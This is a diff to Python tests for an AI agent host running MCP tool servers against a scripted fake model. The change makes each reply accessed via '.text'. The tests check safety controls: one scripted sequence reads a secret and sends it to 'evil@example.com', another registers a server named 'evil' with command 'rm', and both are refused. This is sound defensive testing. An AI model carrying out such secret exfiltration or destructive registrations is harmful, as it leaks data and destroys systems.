@@ -49,7 +49,7 @@ def tool_names(request):
 async def test_turn_activates_a_server_then_calls_its_tool(mcp_host, fake_llm):
     fake_llm.script = [call("activate_tools", groups=["caps"]),
                        call("mcp__caps__echo", text="hi from mcp"), echo]
-    assert await mcp_host.handle_message(message("echo")) == "hi from mcp"
+    assert (await mcp_host.handle_message(message("echo"))).text == "hi from mcp"
     first, second = fake_llm.requests[0], fake_llm.requests[1]
     assert not [n for n in tool_names(first) if n.startswith("mcp__")]
     system = first["messages"][0]["content"]
@@ -64,7 +64,7 @@ async def test_interlock_refuses_chosen_egress_mcp_tool(mcp_host, fake_llm):
     fake_llm.script = [call("activate_tools", groups=["caps"]), call("mcp__caps__read_secret"),
                        call("mcp__caps__read_web", url="http://x"),
                        call("mcp__caps__send", to="evil@example.com", text="100k"), echo]
-    reply = await mcp_host.handle_message(message("go"))
+    reply = (await mcp_host.handle_message(message("go"))).text
     assert reply.startswith("Refused: mcp__caps__send sends data to a destination you choose")
     calls = mcp_host.store.call(lambda db: [(r["tool"], r["status"]) for r in db["tool_calls"].rows])
     assert ("mcp__caps__send", "interlock") in calls
@@ -74,7 +74,7 @@ async def test_destructive_mcp_tool_asks_for_approval(mcp_host, fake_llm):
     platform = AskingPlatform(False)
     fake_llm.script = [call("activate_tools", groups=["caps"]),
                        call("mcp__caps__wipe", path="/tmp/x"), echo]
-    reply = await mcp_host.handle_message(message("wipe"), platform=platform)
+    reply = (await mcp_host.handle_message(message("wipe"), platform=platform)).text
     assert reply == "Not allowed: the user said no."
     assert "mcp__caps__wipe" in platform.questions[0].text
 
@@ -82,7 +82,7 @@ async def test_destructive_mcp_tool_asks_for_approval(mcp_host, fake_llm):
 async def test_register_mcp_is_refused_to_a_non_admin(mcp_host, fake_llm):
     fake_llm.script = [call("activate_tools", groups=["config"]),
                        call("register_mcp", name="evil", command="rm"), echo, echo]
-    reply = await mcp_host.handle_message(message("add a server", admin=False))
+    reply = (await mcp_host.handle_message(message("add a server", admin=False))).text
     assert "Unknown tool 'register_mcp'" in reply
     assert "Unknown tool group(s): config" in last_tool_result(fake_llm.requests[1])
     assert "config" not in fake_llm.requests[0]["messages"][0]["content"].split("group |")[-1]
@@ -95,7 +95,7 @@ async def test_register_mcp_needs_an_admin_yes_even_in_allow_mode(mcp_host, fake
                        call("register_mcp", name="caps2", command=sys.executable,
                             args=[CAPS_SERVER], env={"PYTHONPATH": str(Path(CAPS_SERVER).parents[2])}),
                        echo]
-    reply = await mcp_host.handle_message(message("add caps2"), platform=platform)
+    reply = (await mcp_host.handle_message(message("add caps2"), platform=platform)).text
     assert platform.questions and "register_mcp" in platform.questions[0].text
     assert reply.startswith("MCP server caps2: ready") and "5 tools" in reply
     assert "caps2" in {g.name for g in mcp_host.registry.groups()}
@@ -158,7 +158,8 @@ async def test_progress_shows_as_status_and_elicitation_reaches_the_person(home,
                        lambda body: {"text": " / ".join(
                            m["content"] for m in body["messages"] if m["role"] == "tool")}]
     try:
-        reply = await host.handle_message(message("go"), on_status=on_status, platform=platform)
+        answer = await host.handle_message(message("go"), on_status=on_status, platform=platform)
+        reply = answer.text
     finally:
         await host.stop()
     assert "slept 0.2" in reply and "answer: blue" in reply
